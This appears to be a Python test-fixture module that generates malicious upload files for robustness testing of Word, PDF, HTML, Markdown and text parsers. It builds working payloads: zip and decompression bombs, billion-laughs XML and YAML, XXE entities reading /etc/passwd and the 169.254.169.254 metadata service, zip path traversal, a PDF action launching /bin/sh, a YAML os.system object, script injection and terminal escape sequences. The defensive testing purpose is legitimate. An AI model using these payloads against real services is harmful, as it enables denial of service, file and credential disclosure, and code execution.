"""Documents made to hurt whoever reads them, each small and made on the fly."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping
from types import MappingProxyType

from evals.hostile.format_bombs import FORMAT_BOMBS

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r" Target="{target}" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1>>>>>>>>"
_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_ONE_PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def docx(
    body: bytes, *, start: bytes = b"", target: str = "word/document.xml", more: Mapping[str, bytes] = MappingProxyType({})
) -> bytes:
    """A Word document with this body, as far as Word cares."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELATIONS.format(target=target))
        document = start + f'<w:document xmlns:w="{_WORD}"><w:body>'.encode() + body + b"</w:body></w:document>"
        archive.writestr("word/document.xml", document)
        for name, data in more.items():
            archive.writestr(name, data)
    return packed.getvalue()


def pdf(*objects: bytes, trailer: bytes = b"<</Root 1 0 R>>") -> bytes:
    """A PDF of these objects, numbered from 1."""
    out, places = bytearray(b"%PDF-1.7\n"), list[int]()
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer\n%b\nstartxref\n%d\n%%%%EOF" % (trailer, start)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (entries, len(data), data)


def flat(data: bytes, times: int = 1) -> bytes:
    """A stream packed some times over."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[" + b"/FlateDecode" * times + b"]")


def of_content(content: bytes) -> bytes:
    """A PDF of one page."""
    return pdf(_CATALOG, _ONE_PAGE, _PAGE, content)


def _nested(deep: int) -> bytes:
    return of_content(stream(b"BT /F 9 Tf " + b"[" * deep + b"(a)" + b"]" * deep + b" TJ ET"))


def _many_kids(number: int) -> bytes:
    pages = b"<</Type/Pages/Kids[%b]/Count %d>>" % (b"3 0 R " * number, number)
    return pdf(_CATALOG, pages, _PAGE, flat(b"BT /F 9 Tf (A word of a page. ) Tj ET\n" * 1000))


def _ladder(deep: int) -> bytes:
    """A tree of pages in which each branch is the one below it, twice."""
    rungs = [b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 2>>" % (n + 4, n + 4) for n in range(1, deep)]
    return pdf(_CATALOG, b"<</Type/Pages/Kids[5 0 R 5 0 R]/Count 2>>", _PAGE, stream(b""), *rungs, _PAGE)


def _false_zip() -> bytes:
    data = bytearray(docx(b"<w:p/>" * 1000))
    place = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/document.xml"))
    data[place + 24 : place + 28] = (10).to_bytes(4, "little")  # the size that the directory tells
    return bytes(data)


def _quine() -> bytes:
    """A zip with one in it, in it, and so on; the outermost holds no document."""
    data = b"x" * 1_000_000
    for deep in range(20):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"{deep}.zip", data)
        data = packed.getvalue()
    return data


def _overlapping() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(50_000):
            archive.writestr(f"word/{number}.xml", b"")
    return packed.getvalue()


def _linked(target: str) -> bytes:
    entity = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "{target}">]>'.encode()
    return docx(b"<w:p><w:r><w:t>Stolen: &x;</w:t></w:r></w:p>", start=entity)


def _text(size: int) -> bytes:
    return b"A word. " * (size // 8)


def _twice(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    once = b"".join([*(packer.compress(b" " * 1_000_000) for _ in range(megabytes)), packer.flush()])
    return zlib.compress(once, 9)


BOMBS: Mapping[str, Callable[[], bytes]] = {
    # Word
    "zip bomb, 300 MB.docx": lambda: docx(b"A" * 300_000_000),
    "zip bomb, 199 MB of text.docx": lambda: docx(b"<w:p><w:r><w:t>" + b"A" * 199_000_000 + b"</w:t></w:r></w:p>"),
    "zip bomb, 33 million paragraphs.docx": lambda: docx(b"<w:p/>" * 33_000_000),
    "zip bomb beside the text.docx": lambda: docx(b"", more={"word/media/a.png": b"\0" * 300_000_000}),
    "zip in zip in zip.docx": _quine,
    "50,000 parts.docx": _overlapping,
    "false size in the directory.docx": _false_zip,
    "billion laughs.docx": lambda: docx(
        b"<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>",
        start=f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "lol">{_LAUGHS}]>'.encode(),
    ),
    "entity of a file.docx": lambda: _linked("file:///etc/passwd"),
    "entity of a URL.docx": lambda: _linked("http://169.254.169.254/latest/meta-data/"),
    "100,000 deep.docx": lambda: docx(b"<w:p>" * 100_000 + b"</w:p>" * 100_000),
    "part outside.docx": lambda: docx(b"<w:p/>", target="../../../../etc/passwd", more={"../../../tmp/hostile.txt": b"x"}),
    "no zip.docx": lambda: b"PK\x03\x04" + b"\0" * 100,
    "a PDF.docx": lambda: of_content(stream(b"")),
    # PDF
    "stream of 300 MB.pdf": lambda: of_content(flat(b" " * 300_000_000)),
    "stream packed twice, 1 GB.pdf": lambda: of_content(stream(_twice(1000), b"/Filter[/FlateDecode/FlateDecode]")),
    "packed 50 times.pdf": lambda: of_content(flat(b"BT (a) Tj ET", 50)),
    "60 MB of operators.pdf": lambda: of_content(flat(b"BT (a) Tj ET\n" * 4_600_000)),
    "arrays 100,000 deep.pdf": lambda: _nested(100_000),
    "a page 50,000 times.pdf": lambda: _many_kids(50_000),
    "2 to the 40 pages.pdf": lambda: _ladder(40),
    "pages in a circle.pdf": lambda: pdf(_CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    "its own page.pdf": lambda: pdf(_CATALOG, b"<</Type/Pages/Kids[1 0 R]/Count 9999999999>>"),
    "length in a circle.pdf": lambda: of_content(b"<</Length 4 0 R>>stream\nx\nendstream"),
    "object in a circle.pdf": lambda: pdf(_CATALOG, _ONE_PAGE, _PAGE, b"4 0 R"),
    "earlier table in a circle.pdf": lambda: pdf(_CATALOG, _ONE_PAGE, _PAGE, trailer=b"<</Root 1 0 R/Prev 9/Size 9>>"),
    "encrypted by nothing.pdf": lambda: pdf(_CATALOG, trailer=b"<</Root 1 0 R/Encrypt<</Filter/X/V 9>>/ID[(a)(a)]>>"),
    "dictionary 100,000 deep.pdf": lambda: pdf(b"<</Type/Catalog/Pages " + b"<</A" * 100_000 + b">>" * 100_000 + b">>"),
    "opens a program.pdf": lambda: pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>>>", _ONE_PAGE, _PAGE),
    "nothing.pdf": lambda: b"%PDF-1.7\n" + b"\0" * 1000,
    "cut off.pdf": lambda: of_content(flat(b"BT (a) Tj ET"))[:200],
    # HTML
    "tags 100,000 deep.html": lambda: b"<div>" * 100_000 + b"text" + b"</div>" * 100_000,
    "half a million paragraphs.html": lambda: b"<p>" * 500_000,
    "100,000 left angles.html": lambda: b"<" * 100_000,
    "a tag with 100,000 attributes.html": lambda: b"<p " + b" ".join(b"a%d=1" % n for n in range(100_000)) + b">text</p>",
    "scripts alone.html": lambda: b"<html><script>alert('hostile-mark')</script><img src=x onerror=alert(1)></body></html>",
    "entity of a file.html": lambda: b'<!DOCTYPE h [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>Stolen words are here: &x;</p>',
    "false encoding.html": lambda: b"<meta charset=../../etc/passwd><p>\xff\xfe some words of an article</p>",
    "includes.html": lambda: b'<iframe src="file:///etc/passwd"></iframe><link rel=import href=http://169.254.169.254/>',
    # Markdown and text
    "50,000 left brackets.md": lambda: b"[" * 50_000,
    "50,000 quotes deep.md": lambda: b">" * 50_000 + b" text",
    "emphasis without end.md": lambda: b"*a_ " * 20_000,
    "links without end.md": lambda: b"[a](<" * 20_000,
    "backticks.md": lambda: b"".join(b"`" * n + b"a" for n in range(1, 700)),
    "lists 5,000 deep.md": lambda: b"".join(b" " * n + b"- a\n" for n in range(5000))[:2_000_000],
    "a table of 1,000 columns.md": lambda: b"|a" * 1000 + b"|\n" + b"|-" * 1000 + b"|\n" + b"|b" * 1000 + b"|\n",
    "circle in the front matter.md": lambda: b"---\na: &a [*a, *a]\n---\n",
    "laughs in the front matter.md": lambda: (
        b"---\na0: &a0 [x]\n"
        + b"".join(b"a%d: &a%d [%b]\n" % (n, n, b", ".join([b"*a%d" % (n - 1)] * 9)) for n in range(1, 12))
        + b"---\n"
    ),
    "object in the front matter.md": lambda: b'---\ntitle: !!python/object/apply:os.system ["touch /tmp/hostile"]\n---\n',
    "null characters.md": lambda: b"\0\1\2\3" * 1000,
    "half a UTF-16.txt": lambda: b"\xff\xfe\x00",
    "false UTF-32.txt": lambda: b"\xff\xfe\0\0\xff\xff\xff\xff",
    "one sentence of 200 KB.txt": lambda: b"word " * 40_000,
    "one word of 100 KB.txt": lambda: b"A" * 100_000,
    "300 KB of marks.txt": lambda: "\u0301".encode() * 150_000,
    "random bytes.txt": lambda: bytes(n * n * 7 % 251 + 4 for n in range(100_000)),
    "25 MB.txt": lambda: _text(25_000_000),
    "25 MB.pdf": lambda: b"%PDF-1.7\n" + b"\0" * 25_000_000,
    "empty.txt": lambda: b"",
    "a program.exe": lambda: b"MZ" + b"\0" * 100,
    "HTML as text.txt": lambda: b"<script>alert('hostile-mark')</script> These words are in a text.",
    "terminal orders.txt": lambda: b"\x1b]0;owned\x07\x1b[2J These words are in a text.",
    **FORMAT_BOMBS,
}
"""By the name they are uploaded under."""
